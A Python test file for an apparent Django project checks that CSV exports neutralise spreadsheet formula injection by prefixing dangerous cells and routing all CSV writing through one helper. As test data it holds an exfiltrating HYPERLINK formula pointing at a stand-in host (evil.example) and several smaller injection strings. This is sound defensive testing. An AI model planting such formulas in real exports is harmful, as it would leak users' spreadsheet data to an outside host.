"""Every CSV download, found by asking every GET URL of the permission matrix as each
persona: no cell starts with = + - @ (or a tab or carriage return), so nothing people
typed can run as a spreadsheet formula; and every CSV goes through one helper."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest

from coproduce.csv_export import FORMULA_STARTS, safe_cell
from coproduce.deliberation.models import Statement
from coproduce.hubs.models import Person
from coproduce.timebank.models import Exchange, Transfer
from tests.matrix_objects import built_once
from tests.test_permission_matrix import GETS, send

pytestmark = pytest.mark.django_db

# A number, or hours as h:mm, is data, never a formula.
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?|-?[0-9]+:[0-5][0-9]")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SOURCE = Path(__file__).resolve().parents[1] / "src" / "coproduce"


@pytest.fixture(scope="module")
def things(django_db_setup, django_db_blocker):
    yield from built_once(django_db_blocker)


def test_no_csv_cell_can_run_as_a_formula(things, client):
    Exchange.objects.update(title=HOSTILE)
    Statement.objects.update(text=HOSTILE)
    Transfer.objects.update(memo="+SUM(1,2)")
    Person.objects.filter(pk=things.world.member.pk).update(display_name="@Sam -1")
    downloads = {}
    for case in GETS:
        if case.is_api:
            continue
        for persona in ("member", "coordinator", "admin"):
            response, body, _wrote = send(client, case, things, persona)
            if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
                downloads[f"{case.id} as {persona}"] = body
    # A statement, the hub ledger and a conversation's report, at least.
    assert len({key.split(" as ")[0] for key in downloads}) >= 3, sorted(downloads)
    cells = [
        (name, cell)
        for name, body in downloads.items()
        for row in csv.reader(io.StringIO(body))
        for cell in row
    ]
    assert any(cell == "'" + HOSTILE for _, cell in cells), "the hostile text was exported"
    dangerous = [
        (name, cell)
        for name, cell in cells
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert dangerous == []


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-2", "-2"),  # a number written as text stays a number
        ("-0:45", "-0:45"),  # so do hours
        ("-1 h", "-1 h"),  # and hours in words
        ("-45 min", "-45 min"),
        ("-1 h 30 min", "-1 h 30 min"),
        ("-1 h+A1", "'-1 h+A1"),
        ("-1 hour", "'-1 hour"),
        ("-1+1", "'-1+1"),
        ("-2-A1", "'-2-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lift", "Lift"),
        ("", ""),
        (-90, -90),
        (None, None),
    ],
)
def test_a_cell_is_made_safe_and_numbers_are_left_alone(value, safe):
    assert safe_cell(value) == safe


def test_only_the_helper_writes_csv():
    writers = []
    for path in SOURCE.rglob("*.py"):
        if path.name == "csv_export.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(f"{path.relative_to(SOURCE)}:{node.lineno}")
    assert writers == [], "write CSV with coproduce.csv_export.csv_response"
